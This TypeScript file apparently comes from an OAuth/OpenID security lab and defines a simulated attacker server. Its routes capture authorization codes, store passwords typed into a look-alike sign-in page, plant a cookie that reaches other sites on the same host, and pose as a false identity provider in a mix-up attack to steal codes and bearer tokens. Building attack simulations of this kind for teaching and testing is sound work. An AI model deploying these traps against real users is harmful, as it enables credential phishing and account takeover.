/**
 * The attacker, at an origin of its own. It is active only in worlds of attacks, and never sends a
 * request.
 *
 * | route | what it is |
 * |---|---|
 * | GET / | what was caught |
 * | GET /callback | takes the code of whoever is sent here |
 * | GET, POST /sign-in | looks like an identity provider, keeps what is typed |
 * | GET /plant | sets a cookie of another site of the same host |
 * | GET /idp/.well-known/openid-configuration | what it says of itself, as an OpenID provider |
 * | GET /idp/authorize | a false identity provider: sends on to an honest one |
 * | POST /idp/token | takes the code a broker hands to the wrong place |
 * | GET /advice | an API of its own: reads what it is shown, and keeps the token |
 */

import { closeApp, openApp, sendPage, urlencodedBody } from '@federama/server-kit/app';
import type { Clock } from '@federama/server-kit/clock';
import { isSecureUrl } from '@federama/server-kit/cookie-name';
import type { Store } from '@federama/server-kit/store';
import { type Party, type Presentation, viewOf } from '@federama/server-kit/view';
import { type Express, type Request, Router } from 'express';
import type { CaptureKind } from './notebook.ts';
import { createNotebook } from './notebook.ts';
import { capturesPage, lookAlikePage, silentPage, thanksPage } from './pages.ts';

export type AttackerOptions = {
  config: {
    party: Party;
    presentation: Presentation;
    /** Whether this world was made for attacks. */
    active: boolean;
    observatoryUrl: string;
  };
  store: Store;
  clock: Clock;
};

export function createAttacker(options: AttackerOptions): Express {
  const { party, presentation, active, observatoryUrl } = options.config;
  const app = openApp({ party, presentation });
  if (active) app.use(traps(options));
  else app.use((_req, res) => sendPage(res, 404, silentPage(viewOf(res), observatoryUrl)));
  return closeApp(app, { party });
}

function traps({ config, store, clock }: AttackerOptions): Router {
  const notebook = createNotebook(store);
  const note = (kind: CaptureKind, sent: unknown) =>
    notebook.note({ at: clock.now(), kind, values: textsOf(sent) });
  const router = Router();
  const form = urlencodedBody();
  router.get('/', async (_req, res) =>
    sendPage(res, 200, capturesPage(viewOf(res), await notebook.captures())),
  );
  router.get('/callback', async (req, res) => {
    await note('code', req.query);
    sendPage(res, 200, thanksPage(viewOf(res)));
  });
  router.get('/sign-in', async (req, res) => {
    await note('visit', { path: '/sign-in', ...textsOf(req.query) });
    sendPage(res, 200, lookAlikePage(viewOf(res)));
  });
  router.post('/sign-in', form, async (req, res) => {
    await note('password', req.body);
    sendPage(res, 200, thanksPage(viewOf(res)));
  });
  router.get('/plant', plant(config.party.url));
  router.get('/idp/.well-known/openid-configuration', (_req, res) => {
    res.json(discoveryAt(`${config.party.url}/idp`));
  });
  router.get('/idp/authorize', async (req, res) => {
    const trap = await notebook.trap();
    if (!trap) return sendPage(res, 200, lookAlikePage(viewOf(res)));
    const url = new URL(trap);
    url.searchParams.set('state', String(req.query.state ?? ''));
    res.redirect(303, url.href);
  });
  router.post('/idp/token', form, async (req, res) => {
    await note('code', req.body);
    res.status(400).json({ error: 'server_error', error_description: 'please try again' });
  });
  router.get('/advice', async (req, res) => {
    await note('token', { token: req.headers.authorization?.replace(/^Bearer +/i, '') });
    res.set('Cache-Control', 'no-store').json({ advice: ['L’Île mystérieuse'] });
  });
  return router;
}

/** True to the letter, but for what it does with a code. It says nothing of `iss`. */
function discoveryAt(issuer: string) {
  return {
    issuer,
    authorization_endpoint: `${issuer}/authorize`,
    token_endpoint: `${issuer}/token`,
    jwks_uri: `${issuer}/jwks`,
    response_types_supported: ['code'],
    subject_types_supported: ['public'],
    id_token_signing_alg_values_supported: ['RS256'],
  };
}

/** Cookies ignore ports: this one is sent to every site of the host. */
function plant(url: string) {
  const path = new URL(url).pathname || '/';
  const secure = isSecureUrl(url);
  return (req: Request, res: Parameters<Parameters<Router['get']>[1]>[1]) => {
    const { name, value } = textsOf(req.query);
    if (/^[\w-]{1,60}$/.test(name ?? '') && value)
      res.cookie(name ?? '', value, { path, httpOnly: true, sameSite: 'lax', secure });
    sendPage(res, 200, thanksPage(viewOf(res)));
  };
}

function textsOf(sent: unknown): Record<string, string> {
  return Object.fromEntries(
    Object.entries((sent ?? {}) as Record<string, unknown>)
      .filter(([, value]) => typeof value === 'string')
      .slice(0, 20)
      .map(([name, value]) => [name.slice(0, 60), String(value)]),
  );
}
